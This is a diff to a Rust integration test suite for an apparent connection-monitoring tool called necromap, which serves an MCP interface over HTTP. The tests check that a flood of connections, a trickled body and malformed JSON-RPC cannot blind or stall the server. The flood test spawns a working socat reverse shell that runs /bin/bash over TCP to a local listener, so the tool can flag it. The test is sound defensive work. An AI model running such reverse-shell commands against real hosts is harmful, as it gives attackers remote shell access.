@@ -10,6 +10,8 @@ use std::process::{Child, Command, Stdio};
 use std::sync::mpsc;
 use std::time::Duration;
 
+mod common;
+
 const BIN: &str = env!("CARGO_BIN_EXE_necromap");
 const TOKEN: &str = "test-token-0123456789abcdef";
 const INIT: &str =
@@ -199,18 +201,60 @@ fn fd_count(pid: u32) -> usize {
     std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count)
 }
 
+/// One whole HTTP exchange (`Connection: close`): the status, the
+/// response's session id if any, and the body as read to the end.
+fn exchange(addr: SocketAddr, session: Option<&str>, body: &str) -> std::io::Result<(u16, Option<String>, String)> {
+    let mut s = TcpStream::connect(addr)?;
+    s.set_read_timeout(Some(Duration::from_secs(10)))?;
+    let session = session.map(|id| format!("Mcp-Session-Id: {id}\r\nMcp-Protocol-Version: 2025-03-26\r\n")).unwrap_or_default();
+    s.write_all(
+        format!(
+            "POST /mcp HTTP/1.1\r\nHost: {addr}\r\nAuthorization: {}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n{session}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            bearer(),
+            body.len()
+        )
+        .as_bytes(),
+    )?;
+    let mut got = Vec::new();
+    s.read_to_end(&mut got)?;
+    let text = String::from_utf8_lossy(&got).into_owned();
+    let status = text.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
+    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+    Ok((status, session_of(head), body.to_string()))
+}
+
+/// A whole MCP conversation: initialize, then one tool call; the call's
+/// answer as text.
+fn call_tool(addr: SocketAddr, tool: &str, arguments: &str) -> std::io::Result<String> {
+    let (status, session, body) = exchange(addr, None, INIT)?;
+    let session = session.filter(|_| status == 200).ok_or_else(|| std::io::Error::other(format!("initialize: {status} {body}")))?;
+    exchange(addr, Some(&session), r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#)?;
+    let call = format!(r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{{"name":"{tool}","arguments":{arguments}}}}}"#);
+    let (status, _, body) = exchange(addr, Some(&session), &call)?;
+    if status == 200 { Ok(body) } else { Err(std::io::Error::other(format!("tools/call: {status} {body}"))) }
+}
+
 #[test]
-fn a_flood_of_idle_connections_cannot_take_the_collectors_descriptors() {
+fn a_flood_of_connections_cannot_blind_the_collector_or_lock_out_a_client() {
     // The server on the live host (it reads /proc every second) with the
-    // common 1,024-descriptor limit, and 1,100 idle connections to it.
+    // common 1,024-descriptor limit; a reverse shell on 127.0.0.1; and a
+    // flood that keeps 1,100 idle connections open, opening new ones as
+    // fast as it can.
     {
         use rustix::process::{Resource, getrlimit, setrlimit};
         let mut lim = getrlimit(Resource::Nofile);
         lim.current = lim.maximum;
         let _ = setrlimit(Resource::Nofile, lim);
     }
-    let found = std::env::var_os("PATH").is_some_and(|p| std::env::split_paths(&p).any(|d| d.join("prlimit").is_file()));
-    assert!(found, "`prlimit` (util-linux) is not installed: .ci/run installs it");
+    common::require("prlimit");
+    common::require("socat");
+    let attacker = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = attacker.local_addr().expect("addr").port();
+    let mut socat = Command::new("socat");
+    socat.args([format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/bash".into()]);
+    let _shell = common::spawn_group(socat);
+    let _peer = attacker.accept().expect("the reverse shell connects");
+
     let mut cmd = Command::new("prlimit");
     cmd.args(["--nofile=1024:1024", "--", BIN, "--mcp", "--http", "127.0.0.1:0", "--no-store", "--no-trace"]).env("NECROMAP_MCP_TOKEN", TOKEN);
     let server = start_command(cmd);
@@ -218,28 +262,53 @@ fn a_flood_of_idle_connections_cannot_take_the_collectors_descriptors() {
     std::thread::sleep(Duration::from_millis(500));
     let base = fd_count(pid);
     assert!(base > 0, "the server's descriptors are readable");
-    let flood: Vec<TcpStream> = (0..1_100).filter_map(|_| TcpStream::connect(server.addr).ok()).collect();
-    assert!(flood.len() > 1_000, "the flood connected ({} of 1100)", flood.len());
-    // The server holds at most its connection cap, whatever the flood.
-    let mut peak = 0;
-    for _ in 0..20 {
+
+    use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+    let stop = std::sync::Arc::new(AtomicBool::new(false));
+    let opened = std::sync::Arc::new(AtomicUsize::new(0));
+    let flood = {
+        let (stop, opened, addr) = (stop.clone(), opened.clone(), server.addr);
+        std::thread::spawn(move || {
+            let mut open = std::collections::VecDeque::new();
+            while !stop.load(Ordering::Relaxed) {
+                if let Ok(s) = TcpStream::connect(addr) {
+                    opened.fetch_add(1, Ordering::Relaxed);
+                    open.push_back(s);
+                    if open.len() > 1_100 {
+                        open.pop_front();
+                    }
+                }
+            }
+        })
+    };
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    while opened.load(Ordering::Relaxed) < 1_100 && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    assert!(opened.load(Ordering::Relaxed) >= 1_100, "the flood opened only {} connections", opened.load(Ordering::Relaxed));
+    // While the flood runs: the server holds at most its cap, and a client
+    // with the token gets the reverse shell, critical, without waiting for
+    // the flood's connections to time out.
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    let (mut peak, mut answer, mut last_error) = (0, None, String::new());
+    while std::time::Instant::now() < deadline && answer.is_none() {
         peak = peak.max(fd_count(pid));
-        std::thread::sleep(Duration::from_millis(100));
-    }
-    assert!(peak <= base + necromap::mcp::http::DEFAULT_MAX_CONNECTIONS + 8, "descriptors held: {peak} (base {base}, cap 64)");
-    // Idle connections are dropped within seconds, so a real client gets in
-    // while the flood's sockets are still open on our side.
-    let deadline = std::time::Instant::now() + Duration::from_secs(20);
-    let mut status = 0;
-    while std::time::Instant::now() < deadline {
-        status = request(server.addr, &[("Authorization", &bearer())], INIT).0;
-        if status == 200 {
-            break;
+        match call_tool(server.addr, "get_suspicious_connections", r#"{"min_severity":"critical"}"#) {
+            Ok(body) if body.contains("reverse_shell") && body.contains(&format!("127.0.0.1:{port}")) => answer = Some(body),
+            Ok(body) => last_error = format!("no reverse shell yet: {}", &body[..body.len().min(300)]),
+            Err(e) => last_error = e.to_string(),
         }
-        std::thread::sleep(Duration::from_millis(250));
+        std::thread::sleep(Duration::from_millis(200));
     }
-    assert_eq!(status, 200, "a real request is served during the flood");
-    drop(flood);
+    for _ in 0..10 {
+        peak = peak.max(fd_count(pid));
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    stop.store(true, Ordering::Relaxed);
+    flood.join().expect("flood thread");
+    eprintln!("flood: {} connections opened; server descriptors {base} at rest, {peak} at most", opened.load(Ordering::Relaxed));
+    assert!(answer.is_some(), "during the flood no answer showed the reverse shell: {last_error}");
+    assert!(peak <= base + necromap::mcp::http::DEFAULT_MAX_CONNECTIONS + 8, "descriptors held: {peak} (base {base}, cap 64)");
 }
 
 #[test]
@@ -283,4 +352,28 @@ fn sessions_are_capped_and_the_least_recently_used_makes_room() {
     let ask = |id: &str| request(server.addr, &[("Authorization", &auth), ("Mcp-Session-Id", id), ("Mcp-Protocol-Version", "2025-03-26")], list).0;
     assert_eq!(ask(&ids[0]), 404, "the oldest session was closed to make room");
     assert_ne!(ask(&ids[39]), 404, "the newest session lives");
+}
+
+#[test]
+fn a_trickled_body_times_out_and_malformed_messages_are_answered() {
+    let server = start(|c| {
+        c.env("NECROMAP_MCP_TOKEN", TOKEN);
+    });
+    // A body promised at 1,000 bytes and never sent: 408 within the body timeout.
+    let mut s = TcpStream::connect(server.addr).expect("connect");
+    s.set_read_timeout(Some(necromap::mcp::http::BODY_TIMEOUT + Duration::from_secs(5))).expect("timeout");
+    let t = std::time::Instant::now();
+    s.write_all(format!("POST /mcp HTTP/1.1\r\nHost: {}\r\nAuthorization: {}\r\nContent-Length: 1000\r\n\r\n{{", server.addr, bearer()).as_bytes())
+        .expect("write");
+    let mut buf = [0u8; 64];
+    let n = s.read(&mut buf).expect("an answer, not a hang");
+    assert!(String::from_utf8_lossy(&buf[..n]).contains(" 408 "), "{}", String::from_utf8_lossy(&buf[..n]));
+    assert!(t.elapsed() < necromap::mcp::http::BODY_TIMEOUT + Duration::from_secs(3), "answered in {:?}", t.elapsed());
+    // Not JSON: a parse error; array params: invalid params with the id.
+    let (status, _, body) = exchange(server.addr, None, "hello").expect("exchange");
+    assert_eq!(status, 400);
+    assert!(body.contains("-32700") && body.contains("\"id\":null"), "{body}");
+    let (status, _, body) = exchange(server.addr, None, r#"{"jsonrpc":"2.0","id":9,"method":"tools/list","params":[]}"#).expect("exchange");
+    assert_eq!(status, 400);
+    assert!(body.contains("-32602") && body.contains("\"id\":9"), "{body}");
 }
